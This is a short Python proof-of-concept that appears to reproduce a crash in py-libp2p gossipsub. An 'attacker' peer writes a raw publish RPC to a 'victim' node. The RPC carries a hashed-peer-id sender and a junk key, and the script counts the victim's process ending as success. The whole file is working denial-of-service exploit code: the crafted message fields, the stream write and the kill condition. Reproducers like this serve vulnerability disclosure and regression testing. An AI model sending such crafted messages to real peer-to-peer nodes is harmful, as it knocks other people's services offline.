"""A message whose `from` is a hashed peer id, with a `key` that is no key, ends the process."""

import trio
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_uvarint
from stock import connect, peer, run, tell


async def main() -> int:
    async with peer() as (victim, pubsub), peer() as (attacker, _):
        await pubsub.subscribe("topic")
        await connect(attacker, victim)
        message = rpc_pb2.Message(
            from_id=b"\x12\x20" + bytes(32),
            key=b"junk",
            data=b"x",
            seqno=bytes(8),
            topicIDs=["topic"],
            signature=bytes(64),
        )
        rpc = rpc_pb2.RPC(publish=[message]).SerializeToString()
        stream = await attacker.new_stream(victim.get_id(), [PROTOCOL_ID_V11])
        await stream.write(encode_uvarint(len(rpc)) + rpc)
        await trio.sleep(2)
    return tell(False, "the victim lives")


run(main, dies="signature_validator raises on a key that is none and ends the process")
